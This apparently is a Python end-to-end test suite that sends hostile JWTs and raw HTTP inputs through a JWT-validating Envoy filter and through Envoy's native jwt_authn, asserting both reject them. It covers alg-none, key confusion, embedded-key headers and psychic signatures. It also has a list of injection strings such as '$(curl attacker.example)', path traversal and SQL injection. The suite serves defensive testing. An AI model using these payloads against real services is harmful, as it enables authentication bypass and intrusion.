"""Issue "hardening", the attack suite in a real Envoy: every hostile token through meshgate AND through
Envoy's own jwt_authn + RBAC as istiod renders them (tests/e2e/istiod_native.py), side by side. Each case
asserts meshgate's exact status, body and challenge, and Envoy's (a fact about Envoy 1.40 pinned here); where
they differ the difference is intended and named. No case may make meshgate fetch anything but the
configured JWKS: the dev IdP counts every JWKS request and Envoy counts every upstream request per cluster.

The native suite (tests/attacks.rs) runs the same classes through the engine with both signature backends;
tests/conformance.rs checks the signature-level vectors (constructed_attacks.json) by id. Here:

* realm tokens (the dev IdP, JWKS fetched from it): alg none, RS256->HS256 confusion, jku/x5u/jwk/x5c
  headers, kid path traversal and injection text;
* "lab" tokens (a P-256 key made here, JWKS inline in both configurations): any bytes validly signed, so the
  content is what gets refused: psychic signatures, size limits, nesting, duplicate names, non-UTF-8 JSON,
  whitespace and padding, a JWE;
* raw HTTP: header values that are not UTF-8 (this used to trap the Wasm VM: every later request got 503).

A summary table (case, meshgate, Envoy jwt_authn, verdict) is written to <e2e workdir>/attacks-summary.txt.
"""

from __future__ import annotations

import base64
import json
import socket
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

import harness
import istiod_native
import render

AUD = "my-backend-client"
LAB_ISS = "https://attack-lab.example"
LAB_KID = "lab-1"
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551

BAD_FORMAT = "Jwt is not in the form of Header.Payload.Signature with two dots and 3 sections"
NO_KEY = "Jwks doesn't have key to match kid or alg from Jwt"
VERIFY_FAILS = "Jwt verification fails"
UNSUPPORTED_ALG = "Jwt header [alg] is not supported"
HEADER_JSON = "Jwt header is an invalid JSON"
PAYLOAD_JSON = "Jwt payload is an invalid JSON"
SIG_B64 = "Jwt signature is an invalid Base64url encoded"
TOO_LARGE = "Jwt exceeds the maximum token size"
RBAC = "RBAC: access denied"

POLICY = {"name": "require-jwt", "action": "ALLOW", "rules": [{"from": [{"source": {"requestPrincipals": ["*"]}}]}]}


def b64u(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


LAB_KEY = ec.generate_private_key(ec.SECP256R1())


def lab_jwks() -> str:
    nums = LAB_KEY.public_key().public_numbers()
    return json.dumps({"keys": [{"kty": "EC", "crv": "P-256", "alg": "ES256", "use": "sig", "kid": LAB_KID,
                                 "x": b64u(nums.x.to_bytes(32, "big")), "y": b64u(nums.y.to_bytes(32, "big"))}]})


def lab_claims(**extra) -> dict:
    now = int(time.time())
    return {"iss": LAB_ISS, "sub": "lab-user", "aud": AUD, "exp": now + 3600, "iat": now, **extra}


def lab_header(**extra) -> bytes:
    return json.dumps({"alg": "ES256", "typ": "JWT", "kid": LAB_KID, **extra}, separators=(",", ":")).encode()


def es256(signing_input: bytes) -> bytes:
    r, s = decode_dss_signature(LAB_KEY.sign(signing_input, ec.ECDSA(hashes.SHA256())))
    return r.to_bytes(32, "big") + s.to_bytes(32, "big")


def lab_sign(header: bytes, payload: bytes) -> str:
    """A compact JWS over exactly these bytes, validly signed by the lab key."""
    signing_input = f"{b64u(header)}.{b64u(payload)}"
    return f"{signing_input}.{b64u(es256(signing_input.encode()))}"


def lab_token(**claims) -> str:
    return lab_sign(lab_header(), json.dumps(lab_claims(**claims)).encode())


def with_sig(token: str, sig: bytes) -> str:
    return token.rsplit(".", 1)[0] + "." + b64u(sig)


def sized(length: int) -> str:
    """A validly signed lab token of exactly `length` characters."""
    for extra in range(4):
        header = lab_header(x="y" * extra)
        base = json.dumps(lab_claims(pad=""), separators=(",", ":"))
        for pad in range(length):
            payload = base.replace('"pad":""', '"pad":"' + "x" * pad + '"')
            if len(b64u(header)) + 1 + len(b64u(payload.encode())) + 1 + 86 == length:
                token = lab_sign(header, payload.encode())
                assert len(token) == length
                return token
    raise AssertionError(f"no token of {length} characters")


def raw_payload(middle: bytes) -> bytes:
    now = int(time.time())
    return (f'{{"iss":"{LAB_ISS}","sub":"lab-user","aud":"{AUD}","exp":{now + 3600},"name":"'.encode()
            + middle + b'"}')


@dataclass
class Case:
    id: str
    make: Callable[[], str | dict]  # a token, or {"headers": {...}} for raw header games
    meshgate: tuple[int, str]
    native: tuple[int, str] | None = None  # None: the same as meshgate
    why: str = ""  # for an intended difference


def nested(depth: int) -> str:
    return "[" * depth + "1" + "]" * depth


def bearer(value: str) -> dict:
    return {"headers": {"Authorization": value}}


# Lab cases: the token's content decides (valid signature), no fetch is possible (inline keys).
LAB_CASES = [
    Case("baseline ES256", lambda: lab_token(), (200, "")),
    Case("alg none, empty signature", lambda: lab_sign(b'{"alg":"none"}', json.dumps(lab_claims()).encode())
         .rsplit(".", 1)[0] + ".", (401, BAD_FORMAT)),
    Case("alg nOnE, empty signature", lambda: lab_sign(b'{"alg":"nOnE"}', json.dumps(lab_claims()).encode())
         .rsplit(".", 1)[0] + ".", (401, BAD_FORMAT)),
    Case("alg none with a signature", lambda: lab_sign(b'{"alg":"none","kid":"lab-1"}',
                                                         json.dumps(lab_claims()).encode()), (401, UNSUPPORTED_ALG)),
    Case("ECDSA r = s = 0", lambda: with_sig(lab_token(), bytes(64)), (401, VERIFY_FAILS)),
    Case("ECDSA r = s = n", lambda: with_sig(lab_token(), P256_N.to_bytes(32, "big") * 2), (401, VERIFY_FAILS)),
    Case("ECDSA r = 0, s valid", lambda: (lambda t: with_sig(t, bytes(32) + base64.urlsafe_b64decode(
        t.rsplit(".", 1)[1] + "==")[32:]))(lab_token()), (401, VERIFY_FAILS)),
    Case("ECDSA signature DER-encoded", lambda: (lambda t: with_sig(t, LAB_KEY.sign(
        t.rsplit(".", 1)[0].encode(), ec.ECDSA(hashes.SHA256()))))(lab_token()), (401, VERIFY_FAILS)),
    Case("token of 16,384 bytes", lambda: sized(16384), (200, "")),
    Case("token of 16,385 bytes", lambda: sized(16385), (401, TOO_LARGE), (200, ""),
         "16 KiB token cap (Envoy has none)"),
    Case("JOSE header of 12 KB", lambda: lab_sign(lab_header(pad="h" * 12000), json.dumps(lab_claims()).encode()),
         (200, "")),
    Case("payload nested 64 deep", lambda: lab_token(deep=json.loads(nested(64))), (200, "")),
    Case("payload nested 5,000 deep", lambda: lab_sign(
        lab_header(), json.dumps(lab_claims())[:-1].encode() + b',"deep":' + nested(5000).encode() + b"}"),
        (401, PAYLOAD_JSON)),
    Case("header nested 4,000 deep", lambda: lab_sign(
        lab_header()[:-1] + b',"x":' + nested(4000).encode() + b"}", json.dumps(lab_claims()).encode()),
        (401, HEADER_JSON)),
    Case("iss twice", lambda: lab_sign(lab_header(), json.dumps(lab_claims())[:-1].encode()
                                       + b',"iss":"https://evil.example"}'), (401, PAYLOAD_JSON)),
    Case("sub twice", lambda: lab_sign(lab_header(), b'{"sub":"admin",' + json.dumps(lab_claims())[1:].encode()),
         (401, PAYLOAD_JSON)),
    Case("nested roles twice", lambda: lab_sign(lab_header(), json.dumps(lab_claims())[:-1].encode()
                                                + b',"realm_access":{"roles":["admin"],"roles":["user"]}}'),
         (401, PAYLOAD_JSON)),
    Case("kid twice", lambda: lab_sign(lab_header()[:-1] + b',"kid":"lab-1"}', json.dumps(lab_claims()).encode()),
         (401, HEADER_JSON)),
    Case("0xff in a claim", lambda: lab_sign(lab_header(), raw_payload(b"\xff\xfe")), (401, PAYLOAD_JSON)),
    Case("overlong UTF-8", lambda: lab_sign(lab_header(), raw_payload(b"\xc0\xaf")), (401, PAYLOAD_JSON)),
    Case("UTF-16 payload", lambda: lab_sign(lab_header(), json.dumps(lab_claims()).encode("utf-16-le")),
         (401, PAYLOAD_JSON)),
    Case("0xff in the header", lambda: lab_sign(b'{"alg":"ES256","kid":"lab-1\xff"}', json.dumps(lab_claims()).encode()),
         (401, HEADER_JSON)),
    Case("UTF-8 beyond ASCII", lambda: lab_sign(lab_header(), raw_payload("Zoë ✓ 😀".encode())), (200, "")),
    Case("JSON whitespace in the segments", lambda: lab_sign(
        b' {\n "alg" : "ES256" ,\t"kid":"lab-1" }\r\n', b" " + json.dumps(lab_claims(), indent=2).encode() + b"\n"),
        (200, "")),
    Case("two spaces after Bearer", lambda: bearer("Bearer  " + lab_token()), (200, "")),
    # Envoy's extractor: the token runs from its first base64url character to the end of the value.
    Case("trailing comma and text", lambda: bearer("Bearer " + lab_token() + ",other"), (401, SIG_B64)),
    Case("trailing space and text", lambda: bearer("Bearer " + lab_token() + " other"), (401, SIG_B64),
         (401, VERIFY_FAILS), "both refuse; Envoy's base64url decoder skips the space, RFC 7515 decoding does not"),
    Case("Bearer and punctuation only", lambda: bearer("Bearer !!!"), (401, BAD_FORMAT)),
    Case("lower-case bearer", lambda: bearer("bearer " + lab_token()), (403, RBAC)),
    Case("= after the signature (87 characters)", lambda: lab_token() + "=", (401, SIG_B64)),
    Case("== after the signature", lambda: lab_token() + "==", (401, SIG_B64), (200, ""),
         "RFC 7515 §2: no base64 padding in a JWS (Envoy tolerates it)"),
    Case("JWE, five segments", lambda: b64u(b'{"alg":"RSA-OAEP","enc":"A256GCM"}') + ".ZW5j.aXY.Y2lwaGVy.dGFn",
         (401, BAD_FORMAT)),
    Case("JWE header on three segments", lambda: b64u(b'{"alg":"RSA-OAEP","enc":"A256GCM","kid":"lab-1"}')
         + ".e30.c2ln", (401, UNSUPPORTED_ALG)),
]


# ----------------------------------------------------------------------------------------------------------
# fixtures
# ----------------------------------------------------------------------------------------------------------
@dataclass
class Sides:
    meshgate: harness.EnvoyProcess
    native: harness.EnvoyProcess


ROWS: list[tuple[str, str, str, str]] = []


def realm_rule(idp) -> dict:
    return {"issuer": idp.issuer(), "jwksUri": idp.jwks_uri(), "audiences": [AUD]}


@pytest.fixture(scope="module")
def sides(idp, module_start_meshgate, module_envoy_factory, echo, keycloak_clusters, e2e_workdir) -> Sides:
    lab_rule = {"issuer": LAB_ISS, "jwks": lab_jwks(), "audiences": [AUD]}
    # The refetch cooldown and cache duration outlast the module: one refetch at most, no refresh.
    mesh_rules = [dict(realm_rule(idp), kidRefetchCooldown="1h", cacheDuration="1h"), lab_rule]
    meshgate = module_start_meshgate({"jwtRules": mesh_rules, "policies": [POLICY]})
    filters = [istiod_native.render_jwt_authn([realm_rule(idp), lab_rule], jwks_mode="remote",
                                              clear_route_cache=False)]
    filters += istiod_native.render_rbac([POLICY])
    cfg = render.render_bootstrap(filters, 0, 0, echo.port, keycloak_clusters,
                                  access_log_path=str(module_envoy_factory.workdir / "access-native.log"))
    native = module_envoy_factory(cfg)
    # Both have their realm keys before the cases start.
    tok = idp.mint()
    for env in (meshgate, native):
        harness.wait_until(lambda: env.get("/data", token=tok).status_code == 200, timeout=20, desc="realm keys")
    yield Sides(meshgate, native)
    out = Path(e2e_workdir) / "attacks-summary.txt"
    width = max(len(r[0]) for r in ROWS) if ROWS else 10
    lines = [f"{'case':{width}s}  {'meshgate':45s}  {'Envoy jwt_authn':45s}  verdict"]
    lines += [f"{c:{width}s}  {m:45s}  {n:45s}  {v}" for c, m, n, v in ROWS]
    out.write_text("\n".join(lines) + "\n")


def send(env: harness.EnvoyProcess, made: str | dict) -> tuple[int, str, str | None]:
    if isinstance(made, dict):
        r = env.get("/data", headers=made["headers"])
    else:
        r = env.get("/data", token=made)
    body = "" if r.status_code == 200 else r.text
    return r.status_code, body, r.headers.get("www-authenticate")


def upstream_requests(env: harness.EnvoyProcess) -> dict[str, int]:
    """Upstream requests per cluster (the echo backend's inbound cluster is the only expected one)."""
    out = {}
    for k, v in env.stats("cluster.").items():
        if k.endswith(".upstream_rq_total") and v:
            out[k[len("cluster."):-len(".upstream_rq_total")]] = v
    return out


def check(sides: Sides, case: Case, made: str | dict) -> None:
    m = send(sides.meshgate, made)
    n = send(sides.native, made)
    want_native = case.native or case.meshgate
    verdict = "same" if m[:2] == n[:2] else f"intended: {case.why}"
    ROWS.append((case.id, f"{m[0]} {m[1]}"[:45], f"{n[0]} {n[1]}"[:45], verdict))
    assert m[:2] == case.meshgate, f"meshgate: {case.id}"
    assert n[:2] == want_native, f"Envoy jwt_authn: {case.id}"
    if case.native and case.native != case.meshgate:
        assert case.why, "an intended difference names its reason"
    if m[0] == 401:
        assert m[2] == 'Bearer realm="http://127.0.0.1:%d/data", error="invalid_token"' % sides.meshgate.listen_port


@pytest.mark.parametrize("case", LAB_CASES, ids=[c.id for c in LAB_CASES])
def test_lab_token(sides, case):
    check(sides, case, case.make())


def test_lab_cases_fetched_nothing(sides, idp):
    """After every lab case: meshgate sent no request upstream but to the backend and the realm's JWKS (both at
    start), and nothing else was fetched from the IdP."""
    before = idp.stats()["jwks_fetches"]
    for case in LAB_CASES:
        send(sides.meshgate, case.make())
    assert idp.stats()["jwks_fetches"] == before
    clusters = upstream_requests(sides.meshgate)
    assert set(clusters) <= {"inbound|8080||", harness.KEYCLOAK_CLUSTER}, clusters


# ----------------------------------------------------------------------------------------------------------
# realm tokens: headers that name keys or key URLs, kid text
# ----------------------------------------------------------------------------------------------------------
def test_alg_none_and_key_confusion_on_realm_tokens(sides, idp):
    cases = [
        Case("realm alg none", lambda: idp.mint(alg="none"), (401, BAD_FORMAT)),
        Case("realm alg None", lambda: idp.mint(alg="none", header={"alg": "None"}), (401, BAD_FORMAT)),
        Case("RS256->HS256 keyed with the PEM", lambda: idp.mint(alg="HS256-with-rsa-public-key"), (401, NO_KEY)),
        Case("RS256->HS256 keyed with the DER", lambda: idp.mint(alg="HS256-with-rsa-public-key",
                                                               hmac_key_form="der"), (401, NO_KEY)),
    ]
    for case in cases:
        check(sides, case, case.make())


def test_key_urls_and_embedded_keys_are_never_fetched_nor_trusted(sides, idp):
    other_jwks = idp.local_url("otherrealm", "/protocol/openid-connect/certs")
    attacker_jwk = idp.jwks("otherrealm")["keys"][1]
    kid = idp.mint_full()["kid"]
    cases = [
        Case("jku to another realm", lambda: idp.mint(sign_with="unpublished", header={"jku": other_jwks}),
             (401, VERIFY_FAILS)),
        Case("x5u to another realm", lambda: idp.mint(sign_with="unpublished", header={"x5u": other_jwks}),
             (401, VERIFY_FAILS)),
        Case("embedded jwk", lambda: idp.mint(sign_with="unpublished", header={"jwk": attacker_jwk}),
             (401, VERIFY_FAILS)),
        Case("embedded jwk, no kid", lambda: idp.mint(sign_with="unpublished", kid=None,
                                                      header={"jwk": attacker_jwk}), (401, VERIFY_FAILS)),
        Case("x5c chain", lambda: idp.mint(sign_with="unpublished",
                                           header={"x5c": attacker_jwk.get("x5c", ["MIIB"])}), (401, VERIFY_FAILS)),
    ]
    assert kid
    idp.reset_stats()
    mesh_before = upstream_requests(sides.meshgate).get(harness.KEYCLOAK_CLUSTER, 0)
    for case in cases:
        check(sides, case, case.make())
    stats = idp.stats()["jwks_fetches"]
    assert stats == {"myrealm": 0, "otherrealm": 0}, stats
    assert upstream_requests(sides.meshgate).get(harness.KEYCLOAK_CLUSTER, 0) == mesh_before


KIDS = ["../../../../../../etc/passwd", "/dev/null", "' OR '1'='1' --", 'k" UNION SELECT "AAAA',
        "$(curl attacker.example)", "k1\r\nx-injected: 1", "k1\u0000", "{{7*7}}", "%2e%2e%2f" * 20, "k" * 4096]


def test_kid_traversal_and_injection_text(sides, idp):
    """An unknown kid may refetch the configured JWKS once per cooldown (meshgate; Envoy never refetches), and
    the kid text goes nowhere: not into a fetch, not raw into the log."""
    idp.reset_stats()
    for kid in KIDS:
        # Through `header` (JSON-escaped); the IdP writes a plain kid into Keycloak's spelling as is.
        case = Case(f"kid {kid[:40]!r}", lambda k=kid: idp.mint(sign_with="unpublished", header={"kid": k}),
                    (401, NO_KEY))
        check(sides, case, case.make())
    fetches = idp.stats()["jwks_fetches"]
    assert fetches["otherrealm"] == 0
    assert fetches["myrealm"] <= 1, f"one refetch per cooldown at most: {fetches}"
    harness.wait_until(lambda: "token rejected: " + NO_KEY in sides.meshgate.log(), timeout=10,
                       desc="debug lines flushed")
    log = sides.meshgate.log()
    assert not any(line.startswith("x-injected") for line in log.splitlines()), "a kid wrote a log line"
    assert "x-injected" in log, "the kid is logged, escaped (wasm:debug)"
    # Still serving the realm.
    assert send(sides.meshgate, idp.mint())[0] == 200


# ----------------------------------------------------------------------------------------------------------
# raw HTTP
# ----------------------------------------------------------------------------------------------------------
def raw_request(env: harness.EnvoyProcess, extra: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", env.listen_port), timeout=10) as s:
        s.sendall(b"GET /data HTTP/1.1\r\nHost: backend\r\n" + extra + b"Connection: close\r\n\r\n")
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    return data


def status_of(response: bytes) -> int:
    return int(response.split(b" ", 2)[1])


def test_header_values_that_are_not_utf8_do_not_trap_the_vm(sides):
    """HTTP allows obs-text (0x80-0xFF) in header values. proxy-wasm's `get_map` panicked on them, which
    trapped the VM: with FAIL_CLOSE every later request got 503. Now such a value is read with U+FFFD, and
    meshgate answers exactly as Envoy's jwt_authn does."""
    tok = lab_token().encode()
    auth = b"Authorization: Bearer "
    cases = [
        (auth + tok + b"\r\nX-Note: caf\xe9 \xff\xfe\r\n", 200, None),
        (auth + b"\xff" + tok + b"\r\n", 200, None),  # leading bytes are skipped
        (auth + tok + b"\xff\r\n", 401, SIG_B64),  # trailing ones belong to the token
        (auth + tok + b"\x80abc\r\n", 401, SIG_B64),
        (b"X-Note: \x80\r\n", 403, RBAC),  # no token: the policy decides
    ]
    for env in (sides.meshgate, sides.native):
        for extra, status, body in cases:
            response = raw_request(env, extra)
            assert status_of(response) == status, (env is sides.meshgate, extra[-12:], response[:200])
            if body:
                assert response.endswith(body.encode()), response[-200:]
        # And the next ordinary request is served.
        assert send(env, lab_token())[0] == 200
    reloads = {k: v for k, v in sides.meshgate.stats("wasm.").items() if "reload" in k and v}
    assert reloads == {}
    assert "panicked" not in sides.meshgate.log()


def test_oversized_request_headers_are_refused_by_envoy_first(sides):
    """A header section past Envoy's limit (60 KiB by default) never reaches a filter: both answer 431."""
    big = "Bearer " + lab_token() + "A" * 70_000
    for env in (sides.meshgate, sides.native):
        r = env.get("/data", headers={"Authorization": big})
        assert r.status_code == 431
        assert send(env, lab_token())[0] == 200
